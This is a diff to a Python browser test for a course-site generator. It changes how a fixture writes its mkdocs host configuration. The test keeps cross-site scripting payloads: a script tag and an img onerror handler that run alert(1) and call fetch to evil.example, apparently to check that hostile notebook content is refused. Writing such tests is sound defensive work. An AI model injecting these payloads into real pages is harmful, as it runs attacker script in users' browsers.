@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import json
-import shutil
 from collections.abc import Iterator
 from datetime import UTC, datetime
 from hashlib import sha256
@@ -18,10 +17,9 @@ from coursewright.notebooks.passport import Passport
 from coursewright.notebooks.store import keep_result
 from tests.browser.support.server import SiteServer, serve
 from tests.browser.support.visit import OpenPage, Scheme, opening
-from tests.site.support.course import DAY, HEAD, build, course_of, write_course
+from tests.site.support.course import DAY, HEAD, build, course_of, write_course, write_host
 
 CASE = Path(__file__).parents[1] / "notebooks/cases/hostile.ipynb"
-MKDOCS = Path(__file__).parents[1] / "site/course/mkdocs.yml"
 OWN = "window.__owned=(window.__owned||0)+1;alert(1);fetch('https://evil.example/ran')"
 SCRIPT = f"<script>{OWN}</script>"
 IMAGE = f'<img src="https://evil.example/pixel.png" onerror="{OWN}">'
@@ -122,7 +120,7 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SiteServer]:
     demos = demo.format("stranger", "no") + demo.format("trusted", "yes")
     session = "sessions:\n  - {id: s01, kind: lecture, title: One, date: 2018-01-17}\n"
     root = write_course(tmp_path_factory.mktemp("hostile"), f"{HEAD}demos:\n{demos}{session}")
-    shutil.copyfile(MKDOCS, root / "mkdocs.yml")
+    write_host(root)
     for name in ("stranger", "trusted"):
         keep(root, name, notebook())
     refused = build(root, DAY)
